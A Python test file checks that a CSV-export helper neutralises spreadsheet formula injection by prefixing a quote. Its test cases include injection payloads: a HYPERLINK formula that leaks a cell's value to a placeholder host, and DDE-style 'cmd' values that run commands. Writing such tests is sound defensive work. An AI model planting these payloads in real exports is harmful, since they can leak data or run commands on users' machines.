"""Item 2: CSV cells that a spreadsheet would run as formulas get a leading quote (OWASP)."""

from __future__ import annotations

import pytest

from tui.csv_cells import neutralise


@pytest.mark.parametrize(
    "cell",
    ['=HYPERLINK("http://x/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3+cmd|x", "\t=1", "\r=1",
     "=1", "+", "-", "@"],
)  # fmt: skip
def test_formulas_are_neutralised(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-5", "-1,000", "+1.5", "-0.25", "1e5", "-1.2E-3", "", "Common Stock", "2023-12-12"])
def test_plain_values_unchanged(cell: str) -> None:
    assert neutralise(cell) == cell
